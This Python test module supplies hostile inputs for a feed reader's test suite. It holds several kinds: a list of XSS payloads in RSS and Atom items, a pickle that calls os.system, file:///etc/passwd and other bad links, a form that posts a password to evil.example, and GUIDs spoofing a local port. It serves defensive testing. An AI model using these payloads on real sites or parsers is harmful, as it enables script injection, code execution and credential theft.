"""Table C, feed documents: JSON, what is no feed at all, scripts in texts, links and identities."""

import json
from collections.abc import Iterable

from tests.hostile.endpoint import ANY_FEED, ENTRIES, LISTS, Endpoint, ok
from tests.hostile.payloads import MIB, TEXT, item, rss, some
from tests.hostile.table_c import NOT_A_FEED, no_file_was_read

_LINK = "https://kolibri.example/"


def _json(told: object) -> bytes:
    return json.dumps(told).encode()


def _json_feed(items: Iterable[object], **more: object) -> bytes:
    return _json({"version": "https://jsonfeed.org/version/1.1", "title": "Kolibri", "items": list(items), **more})


_JSON = (
    Endpoint(
        "c-json-deep",
        "C",
        ok(b'{"version":"https://jsonfeed.org/version/1","items":' + b"[" * 200_000),
        NOT_A_FEED | LISTS | {"empty"},
    ),
    Endpoint(
        "c-json-digits",
        "C",
        ok(b'{"version":"https://jsonfeed.org/version/1","items":[{"id":' + b"9" * 100_000 + b"}]}"),
        ANY_FEED,
    ),
    Endpoint(
        "c-json-nan",
        "C",
        ok(b'{"version":"https://jsonfeed.org/version/1","items":[{"id":NaN,"x":1e999,"content_text":"A car"}]}'),
        ANY_FEED,
    ),
    Endpoint(
        "c-json-types",
        "C",
        ok(
            _json_feed([1, None, [], {"id": {}, "title": [], "url": 5}, {"id": "1", "content_text": "A car"}], title={})
        ),
        ENTRIES,
    ),
    Endpoint(
        "c-json-surrogates",
        "C",
        ok(_json_feed([{"id": "\ud800", "title": "Car \udfff\0\x1b[2J", "content_html": "<b>A car"}])),
        LISTS,
    ),
    Endpoint("c-json-commas", "C", ok(b'{"items":[' + b"," * MIB), ANY_FEED),
    Endpoint("c-json-strings", "C", ok(b'{"items":[' + b'"\\' * MIB), ANY_FEED),
    Endpoint("c-json-keys", "C", ok(lambda _: b'{"a":1,' * 300_000), ANY_FEED),
)

_NOT_FEEDS = {
    "html": (b"<!doctype html><html><title>Not here</title><body><p>Sorry</p></body></html>", NOT_A_FEED),
    "html-labelled": (b"<html><head><title>x</title></head><body></body></html>", NOT_A_FEED),
    "json": (b'{"error": "no such thing"}', NOT_A_FEED),
    "json-list": (b"[1, 2, 3]", NOT_A_FEED),
    "pdf": (b"%PDF-1.7\n" + b"\xff\xfe\0" * 1000, NOT_A_FEED),
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, NOT_A_FEED),
    "zip": (b"PK\x03\x04" + bytes(range(256)) * 40, NOT_A_FEED),
    "challenge": (
        b"<html><title>Just a moment...</title><script src='/cdn-cgi/challenge-platform/x'></script>",
        NOT_A_FEED | {"challenge"},
    ),
    "empty": (b"", NOT_A_FEED),
    "blanks": (b" \r\n\t" * 1000, NOT_A_FEED),
    "zeros": (b"\0" * 100_000, NOT_A_FEED),
    "noise": (bytes((n * n * 7919 >> 5) % 256 for n in range(200_000)), NOT_A_FEED),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", NOT_A_FEED),
    "opml": (b"<opml version='2.0'><body><outline xmlUrl='http://127.0.0.2/'/></body></opml>", NOT_A_FEED),
    "wsdl": (b"<definitions xmlns='http://schemas.xmlsoap.org/wsdl/'/>", NOT_A_FEED),
    "text": (
        b"RSS is a format. <rss> begins a document. " * 200,
        frozenset({"partial"}),
    ),  # a feed begins in it, and breaks off
    "path": (b"/etc/passwd", NOT_A_FEED),
    "pickle": (b"\x80\x04\x95cos\nsystem\n(S'true'\ntR.", NOT_A_FEED),
}
_STRANGERS = tuple(
    Endpoint(f"c-not-{name}", "C", ok(body), ends, stored=no_file_was_read) for name, (body, ends) in _NOT_FEEDS.items()
)

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://127.0.0.2/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<base href='http://127.0.0.2/'><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<object data='http://127.0.0.2/'></object><embed src='javascript:alert(1)'>",
)
_ESCAPED = tuple(text.replace("&", "&amp;").replace("<", "&lt;") for text in _SCRIPTS)
_TWICE = tuple(text.replace("&", "&amp;") for text in _ESCAPED)
_XSS = (
    Endpoint(
        "c-xss-description",
        "C",
        ok(rss(*(item(f"Car {n}", description=f"{TEXT[0]} {text}") for n, text in enumerate(_ESCAPED)))),
        LISTS,
    ),
    Endpoint("c-xss-title", "C", ok(rss(*(item(f"Car {n} {text}") for n, text in enumerate(_ESCAPED)))), LISTS),
    Endpoint("c-xss-title-twice", "C", ok(rss(*(item(f"Car {n} {text}") for n, text in enumerate(_TWICE)))), LISTS),
    Endpoint(
        "c-xss-xhtml",
        "C",
        ok(
            b"<feed xmlns='http://www.w3.org/2005/Atom'><title>K</title><entry><id>1</id>"
            b"<title type='text'>&lt;script>alert(1)&lt;/script>"
            b"</title><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script>"
            b"<a href='javascript:alert(1)' onclick='x'>A car</a></div></content></entry></feed>"
        ),
        LISTS,
    ),
)

_BAD_LINKS = (
    "javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "http://", "http://a b/",
    "https://a.example:99999/", "https://a.example:port/", "\n\n", "https://" + "a" * 3000 + ".example/",
    "https://a.example/" + "a" * 100_000, "mailto:a@b.example", "https://[::1", "https://user:word@a.example/", "//",
    "https://a.example/\u202e", "ht\ntp://a.example/", "about:blank", "?" * 5000, "https://\ud800.example/",
    "https://a.example/%00", "http://xn--a.example/", "blob:https://a.example/1", "view-source:http://127.0.0.2/",
)  # fmt: skip
_IDENTITY = (
    Endpoint(
        "c-bad-links",
        "C",
        ok(rss(*(item(f"Car {n}", link.replace("&", "&amp;")) for n, link in enumerate(_BAD_LINKS)))),
        LISTS,
        feed="follow: true",
    ),
    Endpoint(
        "c-bad-guids",
        "C",
        ok(rss(*(item(f"Car {n}", more=f"<guid>{link}</guid>") for n, link in enumerate(_BAD_LINKS)))),
        LISTS,
    ),
    Endpoint(
        "c-bad-images",
        "C",
        ok(
            rss(
                *(
                    item(f"Car {n}", more=f"<enclosure type='image/png' url='{link}'/>")
                    for n, link in enumerate(_BAD_LINKS)
                )
            )
        ),
        LISTS,
    ),
    Endpoint(
        "c-no-ids",
        "C",
        ok(rss(*("<item/>" for _ in range(50)), "<item><description>A car.</description></item>")),
        LISTS,
    ),
    Endpoint("c-no-items", "C", ok(rss()), frozenset({"empty"})),
    Endpoint(
        "c-one-guid", "C", ok(rss(*(item(f"Car {n}", f"{_LINK}{n}", "<guid>1</guid>") for n in range(50)))), LISTS
    ),
    Endpoint(
        "c-steal-guid",
        "C",
        ok(
            lambda asked: rss(
                item("Stolen", "https://thief.example/1", f"<guid>http://127.7.0.1:{asked.place.port}/0</guid>")
            )
        ),
        LISTS,
    ),
    Endpoint(
        "c-steal-link", "C", ok(lambda asked: rss(item("Stolen", f"http://127.7.0.1:{asked.place.port}/page/0"))), LISTS
    ),
    Endpoint("c-twice-in-one", "C", ok(some().replace(b"</channel>", some().split(b"</link>", 1)[1])), ENTRIES),
)

ENDPOINTS = (*_JSON, *_STRANGERS, *_XSS, *_IDENTITY)
